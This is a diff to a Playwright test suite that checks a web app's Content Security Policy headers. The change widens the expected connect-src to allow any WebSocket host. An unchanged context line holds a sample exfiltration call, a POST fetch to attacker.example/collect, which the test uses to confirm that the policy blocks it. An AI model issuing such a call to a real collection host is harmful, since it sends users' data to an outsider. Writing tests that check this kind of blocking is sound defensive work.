@@ -34,7 +34,7 @@ async function watchViolations(page: Page) {
 test('the policy is sent as a header, and written into index.html without frame-ancestors', async ({ page }) => {
   const response = await page.goto('/');
   const header = (await response?.headerValue('content-security-policy')) ?? '';
-  for (const directive of ["script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'self'", "form-action 'self'", "connect-src 'self'"]) {
+  for (const directive of ["script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'self'", "form-action 'self'", "connect-src 'self' ws: wss:"]) {
     expect(header).toContain(directive);
   }
   expect(header).not.toContain('unsafe-eval');
@@ -71,7 +71,7 @@ test('injected script does not run, and each attempt is reported as a violation'
     plugin.data = '/favicon.svg';
     document.body.append(plugin);
 
-    // Data may only go to the app's own origin (and a configured collaboration server).
+    // Data may only go to the app's own origin over HTTP (WebSockets may reach a collaboration server).
     await fetch('https://attacker.example/collect', { method: 'POST', body: 'maps' }).catch(() => undefined);
 
     // Violations are reported in a task of their own.
